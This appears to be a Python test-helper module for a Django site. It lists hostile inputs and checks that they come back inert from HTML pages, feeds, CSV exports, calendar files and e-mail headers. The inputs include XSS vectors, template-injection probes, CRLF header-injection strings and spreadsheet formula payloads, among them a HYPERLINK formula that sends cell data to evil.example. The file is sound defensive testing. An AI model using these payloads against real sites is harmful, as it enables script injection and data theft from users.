"""Hostile texts, and the checks that they come back inert from every place they appear."""

import csv
import io
import re
import xml.etree.ElementTree as ElementTree

import html5lib
from django.core.mail import BadHeaderError

# The number an evaluated `{{ 7*1913 }}` would print; it appears nowhere else.
EVALUATED = "13391"

PAYLOADS = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss-3')>",
    '"><img src=x onerror=alert(4)>',
    "'><svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)"/>',
    '<a href="javascript:alert(9)">klik</a>',
    "[klik hier](javascript:alert(10))",
    "[klik hier](JaVaScRiPt:alert(11))",
    "[klik](&#106;avascript:alert(12))",
    "![beeld](javascript:alert(13))",
    "![beeld](data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=)",
    "[data](data:text/html,<script>alert(15)</script>)",
    '<iframe src="javascript:alert(16)"></iframe>',
    '<a href="#" onclick="alert(17)">x</a>',
    "<details open ontoggle=alert(18)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(19)>",
    "javascript:alert(20)",
    "{{ 7*7 }}",
    "{{ 7*1913 }}",
    "{% debug %}",
    "{% load static %}{{ request.user.password }}",
    "Kop\r\nBcc: slachtoffer@example.org",
    "Titel\nX-Injected: ja",
    "Regel\rDESCRIPTION:ingevoegd",
    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "Gewoon\u202egnp.exe",
    "A" * 5000,
    "tab\tvert\x0bform\x0cnbsp\u00a0zero\u200bline\u2028para\u2029",
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
]

# Dangerous URL schemes; browsers ignore whitespace and control characters inside a scheme.
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
# CSP's img-src allows data: images; SVG is not one of them (it can carry script).
ALLOWED_DATA_IMAGE = re.compile(r"^data:image/(png|jpeg|gif|webp)[;,]", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _local(tag) -> str:
    return tag.rsplit("}", 1)[-1].lower() if isinstance(tag, str) else ""


def _scheme(value: str) -> str:
    return re.sub(r"[\x00-\x20]", "", value)


def script_signature(element) -> tuple:
    return (element.get("src") or "", element.get("type") or "", (element.text or "").strip())


def scripts_of(html: str) -> set:
    document = html5lib.parse(html, namespaceHTMLElements=False)
    return {script_signature(e) for e in document.iter() if _local(e.tag) == "script"}


def executable_markup(html: str, allowed_scripts: set) -> list[str]:
    """Return what in `html` could run script: new scripts, on* handlers, bad URLs, frames."""
    problems = []
    document = html5lib.parse(html, namespaceHTMLElements=False)
    for element in document.iter():
        tag = _local(element.tag)
        if tag == "script" and script_signature(element) not in allowed_scripts:
            problems.append(f"<script> {script_signature(element)[:2]}")
        if tag in FORBIDDEN_TAGS:
            problems.append(f"<{tag}>")
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            problems.append("<meta http-equiv=refresh>")
        for name, value in element.attrib.items():
            name = _local(name)
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES:
                target = _scheme(value)
                if BAD_SCHEME.match(target) and not (
                    tag == "img" and name == "src" and ALLOWED_DATA_IMAGE.match(target)
                ):
                    problems.append(f"<{tag} {name}={value[:40]!r}>")
    if EVALUATED in html:
        problems.append(f"template syntax evaluated ({EVALUATED})")
    return problems


def formula_cells(text: str, delimiter: str) -> list[str]:
    """Return the cells of a CSV export that a spreadsheet would run as a formula."""
    text = text.lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    return [cell[:40] for cell in cells if cell.startswith(FORMULA_START)]


def ics_problems(body: bytes, allowed_names: set) -> list[str]:
    """Return raw line breaks inside a property and property names nobody put there."""
    problems = []
    text = body.decode()
    lines = text.split("\r\n")
    for line in lines:
        if "\r" in line or "\n" in line:
            problems.append(f"raw line break in {line[:40]!r}")
    unfolded = re.sub(r"\r\n[ \t]", "", text)
    for line in unfolded.split("\r\n"):
        if not line:
            continue
        name = re.split(r"[;:]", line, maxsplit=1)[0].upper()
        if name not in allowed_names:
            problems.append(f"unexpected property {name[:40]!r}")
    return problems


def feed_problems(body: bytes, allowed_scripts: set) -> list[str]:
    """Parse the Atom feed as XML; HTML carried in it must be inert too."""
    root = ElementTree.fromstring(body)
    problems = []
    for element in root.iter():
        if element.get("type") == "html" and element.text:
            problems += executable_markup(element.text, allowed_scripts)
        href = element.get("href")
        if href and BAD_SCHEME.match(_scheme(href)):
            problems.append(f"feed link {href[:40]!r}")
    return problems


def header_problems(message) -> list[str]:
    """Return line breaks in the subject or any header of an outgoing e-mail."""
    problems = []
    if "\r" in message.subject or "\n" in message.subject:
        problems.append(f"line break in subject {message.subject[:40]!r}")
    for name, value in message.extra_headers.items():
        if "\r" in str(value) or "\n" in str(value):
            problems.append(f"line break in header {name}")
    if message.bcc:
        problems.append(f"Bcc {message.bcc}")
    try:
        parsed = message.message()
    except BadHeaderError as error:
        return [*problems, f"cannot be sent: {error}"]
    for name in parsed:
        if name.lower() in {"bcc", "x-injected"}:
            problems.append(f"injected header {name}")
    return problems
